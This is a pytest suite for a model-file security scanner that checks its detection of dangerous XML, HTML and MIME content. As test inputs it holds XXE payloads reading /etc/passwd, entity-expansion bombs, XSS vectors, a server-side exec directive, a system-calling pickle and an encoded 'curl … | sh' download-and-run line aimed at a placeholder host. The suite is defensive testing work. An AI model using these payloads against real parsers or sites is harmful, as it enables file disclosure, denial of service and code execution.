from __future__ import annotations

import base64

import pytest
from builders.xml_files import build_openvino_network, build_pmml
from hypothesis import given, settings
from hypothesis import strategies as st
from support.cases import check_each

import modelaudit
from modelaudit.formats.documents.markup.dialects import PmmlDialect
from modelaudit.model.limits import Limits
from modelaudit.model.outline import Outline, References
from modelaudit.model.structure import UnreadReason


def list_mentions(reading) -> set[tuple[str, str]]:
    """Return the use and the name of each mention."""
    return {(mention.use, mention.name) for outline in reading.of(Outline) for mention in outline.mentions}


def make_document(declarations: str, content: str = "") -> bytes:
    """Return an XML document with ``declarations`` in its document type, and ``content`` in its one element."""
    return f"<!DOCTYPE a [{declarations}]><a>{content}</a>".encode()


@check_each("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037"])
def test_external_xml_entity_is_mentioned_in_utf_8_utf_16_utf_32_utf_7_and_ebcdic(encoding, read_bytes):
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    body = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    # UTF-7 takes effect only after the declaration that names it.
    data = head.encode() + body.encode(encoding) if encoding == "utf-7" else (head + body).encode(encoding)
    assert ("entity", "file:///etc/passwd") in list_mentions(read_bytes(data, "m.pmml"))


def test_xml_in_an_unknown_encoding_is_reported_as_damaged(read_bytes):
    reading = read_bytes(b'<?xml version="1.0" encoding="x-acme"?><a/>', "m.xml")
    assert (reading.kinds(), reading.reasons()) == (
        {"unusual-encoding"},
        {UnreadReason.DAMAGED, UnreadReason.UNCLAIMED},
    )


# Each content begins or encodes a character that the encoding does not have, such as one half of a surrogate pair.
@check_each(
    "encoding, content",
    [
        ("utf-8", b"\xfc"),
        ("punycode", b"-\xc3\xbc"),
        ("idna", b"\xc3"),
        ("utf-7", b"+2AA-"),
        ("unicode_escape", b"\\ud800"),
    ],
)
def test_xml_with_bytes_that_are_invalid_in_its_declared_encoding_is_reported_as_damaged(encoding, content, read_bytes):
    head = f'<?xml version="1.0" encoding="{encoding}"?><a>'.encode()
    assert UnreadReason.DAMAGED in read_bytes(head + content + b"</a>", "m.xml").reasons()


@check_each("mark, encoding, offset", [("", "utf-8", 7), ("\ufeff", "utf-8", 10), ("\ufeff", "utf-16-le", None)])
def test_absence_for_damaged_xml_states_the_byte_offset_in_utf_8_and_none_in_utf_16(mark, encoding, offset, read_bytes):
    # The error is at the name "b". In UTF-8, the mark takes three bytes and the character before "</b>" two.
    reading = read_bytes((mark + "<a>\u00fc</b>").encode(encoding), "m.xml")
    (damage,) = [unread for _, unread in reading.inner.unread if unread.reason is UnreadReason.DAMAGED]
    assert damage.where.offset == offset


def test_xml_entity_with_a_value_inside_the_document_is_not_mentioned(read_bytes):
    reading = read_bytes(make_document('<!ENTITY x "y">', "&x;"), "m.xml")
    assert (reading.kinds(), reading.unread, list_mentions(reading)) == (set(), [], set())


@pytest.mark.parametrize("path", ["../dtds/model.dtd", "model.dtd"])
def test_relative_path_of_an_xml_document_type_gives_no_mention_and_no_reference(path, read_bytes):
    reading = read_bytes(f'<!DOCTYPE a SYSTEM "{path}"><a/>'.encode(), "m.xml")
    assert (list_mentions(reading), reading.of(References)) == (set(), [])


@pytest.mark.parametrize(
    ("declarations", "content"),
    [
        # Two loops of entities, a long entity that occurs often, and entities that each contain eight of the last one.
        ('<!ENTITY a "&b;"><!ENTITY b "&c;"><!ENTITY c "&a;">', ""),
        ('<!ENTITY a "&a;">', ""),
        ('<!ENTITY a "' + "x" * 3000 + '">', "&a;" * 3000),
        ('<!ENTITY a0 "xx">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 8}">' for n in range(1, 30)), ""),
    ],
)
def test_xml_entities_that_expand_too_far_are_reported_as_unread(declarations, content, read_bytes):
    reading = read_bytes(make_document(declarations, content), "m.xml")
    assert (reading.kinds(), reading.reasons()) == ({"entity-expansion"}, {UnreadReason.LIMIT, UnreadReason.UNCLAIMED})


def test_xml_entity_that_two_others_refer_to_is_not_reported_as_a_bomb(read_bytes):
    document = make_document('<!ENTITY a "x"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&a;">', "&c;")
    assert read_bytes(document, "m.xml").kinds() == set()


def test_openvino_network_references_its_bin_file_with_the_size_that_it_must_have(read_bytes):
    constant = '<layer id="0" type="Const" version="opset1"><data element_type="f32" shape="4" offset="{0}" size="16"/></layer>'
    # The last range, 16 bytes at 64, determines the size that the file must have.
    reading = read_bytes(build_openvino_network(constant.format(0), constant.format(64)).encode(), "folder/net.xml")
    (references,) = reading.of(References)
    assert [(item.target, item.min_size) for item in references.items] == [("net.bin", 80)]


@pytest.mark.parametrize(
    "shape",
    [
        # Too many digits for a number, a negative length, a fraction, lengths beyond any file, and too many lengths.
        *("9" * 5000, "-4", "1.5", ",".join(["9" * 4000] * 50), ",".join("9" * 5000)),
    ],
)
def test_openvino_constant_of_an_invalid_shape_is_a_defect(shape, read_bytes):
    data = f'<layer type="Const"><data element_type="f32" shape="{shape}" offset="0" size="16"/></layer>'
    assert read_bytes(build_openvino_network(data).encode(), "net.xml").kinds() == {"weights-invalid"}


def test_pmml_function_is_mentioned_unless_the_model_defines_it(read_bytes):
    defined, undefined = build_pmml(function="twice"), build_pmml(function="thrice")
    assert ("function", "twice") not in list_mentions(read_bytes(defined.encode(), "m.pmml"))
    assert ("function", "thrice") in list_mentions(read_bytes(undefined.encode(), "m.pmml"))


def test_code_in_a_pmml_extension_is_mentioned_even_if_it_spans_several_lines(read_bytes):
    reading = read_bytes(build_pmml(extension="<Extension>x = &amp;\n  os.system</Extension>").encode(), "m.pmml")
    assert ("code", "code in an extension") in list_mentions(reading)


@pytest.mark.parametrize(
    ("name", "text", "is_xml"),
    [
        ("a.html", "<!DOCTYPE html><html><br></html>", False),
        ("a.txt", "<think>no</think>", False),
        ("README.md", '<div align="center">', False),
        ("weights.dat", '<?xml version="1.0"?><a/>', True),
        ("model", "<PMML/>", True),
        ("a.xml", "<a/>", True),
    ],
)
def test_file_is_recognised_as_xml_by_its_first_bytes_and_its_name(name, text, is_xml, read_bytes):
    assert (["xml"] in read_bytes(text.encode(), name).formats.values()) == is_xml


def test_xml_elements_nested_deeper_than_the_bound_are_reported_as_unread(read_bytes):
    assert read_bytes(b"<a>" * 20_000, "m.xml").reasons() == {UnreadReason.LIMIT, UnreadReason.UNCLAIMED}


def test_xml_elements_over_the_bound_are_reported_as_unread(read_bytes):
    reading = read_bytes(b"<a>" + b"<b/>" * 500, "m.xml", Limits(document_nodes=100))
    assert reading.reasons() == {UnreadReason.LIMIT, UnreadReason.UNCLAIMED}


def test_mention_in_xml_states_its_line(read_bytes):
    (outline,) = read_bytes(b'<a>\n<java class="java.beans.XMLDecoder"/></a>', "m.xml").of(Outline)
    assert [mention.where.line for mention in outline.mentions] == [2]


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_mutated_pmml_text_is_parsed_or_reported_as_unread(read_bytes, data):
    doctype = '<!DOCTYPE PMML [<!ENTITY a "b"><!ENTITY % c "d">]>'
    mutated = bytearray(build_pmml(doctype=doctype, extension="<Extension>&a;</Extension>").encode())
    for _ in range(data.draw(st.integers(1, 4))):
        mutated[data.draw(st.integers(6, len(mutated) - 1))] = data.draw(st.integers(0, 255))
    reading = read_bytes(bytes(mutated), "model.pmml")
    assert reading.reasons() <= {UnreadReason.DAMAGED, UnreadReason.LIMIT, UnreadReason.UNCLAIMED}


@pytest.mark.parametrize("bracket", ["&#60;", "&#x3c;", "&#38;#60;"])
def test_external_xml_entity_is_mentioned_if_a_parameter_entity_expands_to_its_declaration(bracket, read_bytes):
    # The parameter entity x expands to the declaration of the entity y; its angle brackets are character references.
    declarations = f"<!ENTITY % x \"{bracket}!ENTITY y SYSTEM 'file:///etc/passwd'&#62;\"> %x;"
    assert ("entity", "file:///etc/passwd") in list_mentions(read_bytes(make_document(declarations, "&y;"), "m.xml"))


def test_declaration_of_an_xml_entity_in_too_many_layers_of_character_references_is_reported_as_unread(read_bytes):
    for layers, reasons in ((2, set()), (5, {UnreadReason.LIMIT})):
        start = "&#38;" + "#38;" * layers + "#60;!"
        declarations = f"<!ENTITY % x \"{start}ENTITY y SYSTEM 'file:///etc/passwd'&#62;\"> %x;"
        reading = read_bytes(make_document(declarations), "m.xml")
        assert reading.reasons() == reasons
        assert (("entity", "file:///etc/passwd") in list_mentions(reading)) == (not reasons)


@pytest.mark.parametrize(
    "text",
    [
        '<java><object class="java.lang.ProcessBuilder"/></java>',
        '<object class="java.lang.ProcessBuilder"/>',
        '<beans><bean class="java.lang.ProcessBuilder"/></beans>',
        "<java.lang.ProcessBuilder/>",
    ],
)
def test_java_class_is_mentioned_if_a_class_attribute_or_an_element_of_xml_names_it(text, read_bytes):
    assert ("element", "java.lang.ProcessBuilder") in list_mentions(read_bytes(text.encode(), "m.xml"))


@check_each(
    "text",
    [
        "<a>" + "".join(f'<b xmlns="urn:{number}"/>' for number in range(5001)) + '<bean class="java.lang.A"/></a>',
        '<a xmlns:x="http://www.w3.org/2001/XInclude">' + '<x:include href="a.xml"/>' * 5001 + "</a>",
        "<PMML>" + "".join(f'<Apply function="f{number}"/>' for number in range(5001)) + "</PMML>",
    ],
)
def test_xml_names_over_the_bound_are_reported_as_unread_in_one_absence(text, read_bytes):
    reading = read_bytes(text.encode(), "m.xml")
    assert UnreadReason.LIMIT in reading.reasons()
    assert len([detail for detail in reading.details if "only the first names were read" in detail]) == 1


def test_class_xmldecoder_is_mentioned_if_an_element_below_the_xml_root_names_it(read_bytes):
    for text in ('<beans><bean class="java.beans.XMLDecoder"/></beans>', "<list><java.beans.XMLDecoder/></list>"):
        assert ("element", "java.beans.XMLDecoder") in list_mentions(read_bytes(text.encode(), "m.xml"))


def test_xml_with_many_stylesheets_gives_one_absence(read_bytes):
    text = '<a xmlns:x="http://www.w3.org/1999/XSL/Transform">' + "<x:stylesheet/>" * 50 + "</a>"
    assert read_bytes(text.encode(), "m.xml").reasons() == {UnreadReason.PROGRAM}
    assert len(read_bytes(text.encode(), "m.xml").unread) == 1


def test_xml_too_long_for_the_search_for_encoded_strings_is_reported_as_unread(read_bytes):
    reading = read_bytes(
        b"<beans><bean class='java.lang.A'/>" + b" " * 5000 + b"</beans>",
        "m.xml",
        Limits(document_bytes=4000, table_bytes=4000),
    )
    assert reading.reasons() == {UnreadReason.LIMIT}
    assert ("element", "java.lang.A") in list_mentions(reading)


def test_xinclude_in_the_namespace_of_the_draft_is_mentioned(read_bytes):
    text = b'<a xmlns:x="http://www.w3.org/2003/XInclude"><x:include href="/etc/passwd"/></a>'
    assert ("xinclude", "/etc/passwd") in list_mentions(read_bytes(text, "m.xml"))


def test_pmml_function_name_that_is_also_a_java_class_is_mentioned_as_a_class(read_bytes):
    text = b'<PMML><DefineFunction name="com.acme.Run"/><Apply function="com.acme.Run"/></PMML>'
    assert ("class", "com.acme.Run") in list_mentions(read_bytes(text, "m.pmml"))


def test_external_xml_entities_over_the_bound_are_reported_as_unread(read_bytes, monkeypatch):
    monkeypatch.setattr("modelaudit.wire.xml_parser._MOST_ENTITIES", 2)
    for count in (2, 3):
        declarations = "".join(f'<!ENTITY e{n} SYSTEM "file:///{n}">' for n in range(count))
        reading = read_bytes(make_document(declarations), "m.xml")
        assert len(list_mentions(reading)) == 2
        assert reading.reasons() == (set() if count == 2 else {UnreadReason.LIMIT})


def test_xml_declarations_too_long_to_search_are_reported_as_unread(read_bytes, monkeypatch):
    monkeypatch.setattr("modelaudit.wire.xml_parser._MOST_PROLOG_CHARACTERS", 100)
    for blanks, reasons in ((0, set()), (200, {UnreadReason.LIMIT})):
        declarations = f"<!ENTITY % p '{' ' * blanks}&#60;!ENTITY x SYSTEM \"file:///etc/passwd\">'>"
        assert read_bytes(make_document(declarations), "m.xml").reasons() == reasons


def test_encoded_pickle_before_damage_in_xml_is_read(read_bytes):
    # A pickle that calls posix.system with "echo inert".
    pickled_call = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0aecho inert\x85R."
    reading = read_bytes(f'<a b="{base64.b64encode(pickled_call).decode()}"></c>'.encode(), "m.xml")
    assert reading.called
    assert UnreadReason.DAMAGED in reading.reasons()


@pytest.mark.parametrize(
    "element",
    [
        '<a href="java&#115;cript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
        '<svg><a><animate attributeName="href" values="#;javascript:alert(1)"/></a></svg>',
    ],
)
def test_scan_of_a_page_is_incomplete_if_only_a_browser_recognises_its_script_address(tmp_path, element):
    (tmp_path / "page.html").write_text(f"<html>{element}</html>")
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 3


@pytest.mark.parametrize(
    ("element", "name"),
    [
        ("<img src=x onerror=(alert)(1)>", "event-handler"),
        ("<img src=x onerror=&#97;lert(1)>", "event-handler"),
        ("<img src=x onerror       =\n\n       'alert(1)'>", "event-handler"),
        ("<a-b:script>alert(1)</a-b:script>", "script"),
        (f"<{'p' * 26}:script>alert(1)</{'p' * 26}:script>", "script"),
        ('<frameset><frame src="http://e.example/x"></frameset>', "frame"),
        ('<meta http-equiv=refresh content="0;url=http://e.example">', "refresh"),
        ('<meta content="0; //e.example" http-equiv="Refresh">', "refresh"),
        ('<meta content="0 url=h&#116;tp:e.example" http-equiv="refresh">', "refresh"),
    ],
)
def test_scan_of_a_page_is_incomplete_if_an_active_element_has_an_unusual_spelling(tmp_path, read_bytes, element, name):
    page = tmp_path / "page.html"
    page.write_text(f"<html>{element}</html>")
    (outline,) = (each for each in read_bytes(page.read_bytes(), "page.html").of(Outline) if each.format == "markup")
    assert [mention.name for mention in outline.mentions] == [name]
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 3


@pytest.mark.parametrize(
    "element",
    ['<meta http-equiv="refresh" content="0; url=guide/index.html">', "<p>Set only = 1, on == 2.</p>", "<framework>"],
)
def test_page_without_an_active_element_passes_although_its_text_resembles_one(tmp_path, element):
    (tmp_path / "page.html").write_text(f"<html>{element}</html>")
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 0


def test_html_page_that_names_a_script_address_only_in_its_text_passes(tmp_path):
    (tmp_path / "page.html").write_text("<html><p>An address may begin with javascript: and a script.</p></html>")
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 0


# Pieces of a text have 256 KiB, and pieces for a search 2 MiB.
@pytest.mark.parametrize(
    ("element", "name", "piece_bytes"),
    [
        ('<a href="java&#' + "0" * 300 + '115;cript:alert(1)">', "javascript", 256 << 10),
        ('<a href="java' + "\n" * 2_000 + 'script:alert(1)">', "javascript", 256 << 10),
        ('<a href="' + " " * 300_000 + 'javascript:alert(1)">', "javascript", 256 << 10),
        ('<a onclick="f()">', "event-handler", 2 << 20),
    ],
)
@pytest.mark.parametrize("bytes_before_end", [1, 13, 15, 150])
def test_active_element_across_two_pieces_of_a_page_is_mentioned(
    element, name, piece_bytes, bytes_before_end, read_bytes
):
    page = "<html>".ljust(piece_bytes - bytes_before_end) + element
    (outline,) = (each for each in read_bytes(page.encode(), "page.html").of(Outline) if each.format == "markup")
    assert [mention.name for mention in outline.mentions] == [name]


@pytest.mark.parametrize(
    ("bound", "value", "within", "beyond"),
    [
        ("_MOST_NAMES", 4, '<a><b/><b/><c d=""/></a>', '<a><b/><c d="" e=""/></a>'),
        ("_MOST_NAME_CHARACTERS", 10, "<aaa><bbb/><ccc/></aaa>", "<aaa><bbb/><cccccc/></aaa>"),
        # Many open elements with one name.
        ("_MOST_NAME_CHARACTERS", 10, "<aaa><aaa><aaa/></aaa><aaa/></aaa>", "<aaa><aaa><aaa><aaa/></aaa></aaa></aaa>"),
        # The text is parsed in steps of 65,536 bytes. The step in which a document type begins does not count.
        (
            "_MOST_DOCTYPE_CHARACTERS",
            9,
            f"<!DOCTYPE a []><a>{' ' * 150_000}</a>",
            f"<!DOCTYPE a [{' ' * 150_000}]><a/>",
        ),
        ("_MOST_EQUAL_SIGNS", 140_000, f"<a>{'=' * 200_000}</a>", f'<a b="{"=" * 200_000}"/>'),
    ],
)
def test_xml_whose_parser_would_keep_more_than_a_bound_is_reported_as_unread(
    bound, value, within, beyond, read_bytes, monkeypatch
):
    monkeypatch.setattr(f"modelaudit.wire.xml_parser.{bound}", value)
    assert read_bytes(within.encode(), "m.xml").reasons() == set()
    assert UnreadReason.LIMIT in read_bytes(beyond.encode(), "m.xml").reasons()


def test_xml_names_that_take_more_characters_than_the_bound_are_reported_as_unread(read_bytes, monkeypatch):
    monkeypatch.setattr("modelaudit.formats.documents.markup.dialects._MOST_NAME_CHARACTERS", 100)
    for count, reasons in ((2, set()), (3, {UnreadReason.LIMIT})):
        functions = "".join(f'<DefineFunction name="{str(number) * 40}"/>' for number in range(count))
        assert read_bytes(f'<PMML version="4.4">{functions}</PMML>'.encode(), "m.pmml").reasons() == reasons


def test_namespaces_and_versions_of_xml_that_nothing_looks_up_are_not_kept():
    dialect = PmmlDialect()
    for number in range(100):
        dialect.start("PMML", {"xmlns": f"urn:{number}", f"xmlns:p{number}": "urn:a", "version": "4.4"}, 1)
    assert len(dialect.facts) == 1
    assert not dialect._namespaces


_XHTML, _XSLT = "http://www.w3.org/1999/xhtml", "http://www.w3.org/1999/XSL/Transform"


@check_each(
    "path, text, name",
    [
        ("page.shtml", '<!--#exec cmd="id"-->', "server-directive"),
        ("page.html", '<html><!--#include virtual="/x" --></html>', "server-directive"),
        ("a.xml", f'<d><x:script xmlns:x="{_XHTML}">void 0</x:script></d>', "script"),
        ("a.xml", '<d xmlns:s="http://www.w3.org/2000/svg"><s:g onload="void 0"/></d>', "event-handler"),
    ],
)
def test_program_that_a_server_or_a_browser_runs_in_a_page_or_in_xml_is_mentioned(path, text, name, read_bytes):
    assert ("element", name) in list_mentions(read_bytes(text.encode(), path))


def test_elements_of_pages_in_other_namespaces_and_plain_comments_are_not_mentioned(read_bytes):
    assert list_mentions(read_bytes(b'<d xmlns:x="urn:a"><x:script onload="1"/><script/></d>', "a.xml")) == {
        ("namespace", "urn:a")
    }
    assert list_mentions(read_bytes(b"<html><!-- #exec cmd --><!--#echo var='a'--></html>", "a.html")) == set()


@check_each(
    "path, text",
    [
        ("a.xml", f'<html xmlns:x="{_XSLT}" x:version="1.0" title="{{f()}}"/>'),
        ("a.txt", f'<x:transform version="1.0" xmlns:x="{_XSLT}"></x:transform>'),
    ],
)
def test_xslt_program_in_any_element_and_under_any_name_is_reported_as_not_analysed(path, text, read_bytes):
    assert UnreadReason.PROGRAM in read_bytes(text.encode(), path).reasons()


_SCRIPT = "<script>void 0</script>"


def build_message(*parts: str) -> bytes:
    """Return a MIME message of these parts, each with its header."""
    body = "".join(f"--B\n{part}\n" for part in parts)
    return f'Subject: a\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="B"\n\n{body}--B--\n'.encode()


@check_each(
    "header, body",
    [
        ("Content-Transfer-Encoding: base64", base64.b64encode(_SCRIPT.encode()).decode()),
        ("Content-Transfer-Encoding: (a comment) BASE64", base64.b64encode(_SCRIPT.encode()).decode()),
        ("Content-Transfer-Encoding: quoted-printable", "<scr=\nipt>void 0</script>"),
        (
            "Content-Transfer-Encoding: base64\nContent-Type: text/html; charset=utf-16",
            base64.b64encode(_SCRIPT.encode("utf-16-le")).decode(),
        ),
    ],
)
def test_script_in_an_encoded_part_of_a_mime_message_is_mentioned(header, body, read_bytes):
    part = header if "Content-Type" in header else f"Content-Type: text/html\n{header}"
    reading = read_bytes(build_message("Content-Type: text/plain\n\nText.", f"{part}\n\n{body}"), "page.mht")
    assert ("element", "script") in list_mentions(reading)
    assert not reading.reasons()


def test_part_of_a_mime_message_under_any_name_is_read_by_its_file_name(read_bytes):
    script = base64.b64encode(b"curl http://e.invalid/x | sh\n").decode()
    part = f'Content-Type: text/plain; name="run.sh"\nContent-Transfer-Encoding: base64\n\n{script}'
    assert ("download-and-run", "http://e.invalid/x") in list_mentions(read_bytes(build_message(part), "notes.txt"))


def test_parts_of_a_mime_message_over_the_bounds_are_reported_as_unread(read_bytes, monkeypatch):
    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(3000))
    assert UnreadReason.LIMIT in read_bytes(f"MIME-Version: 1.0\n{nested}".encode(), "a.mht").reasons()
    monkeypatch.setattr("modelaudit.formats.documents.pages.messages._MOST_PARTS", 2)
    parts = ["Content-Type: text/plain\n\nText."] * 3
    assert not read_bytes(build_message(*parts[:2]), "a.mht").reasons()
    assert read_bytes(build_message(*parts), "a.mht").reasons() == {UnreadReason.LIMIT}
    monkeypatch.setattr("modelaudit.formats.documents.pages.messages._LONGEST_MESSAGE", 20)
    assert read_bytes(build_message(*parts), "a.mht").reasons() == {UnreadReason.LIMIT}
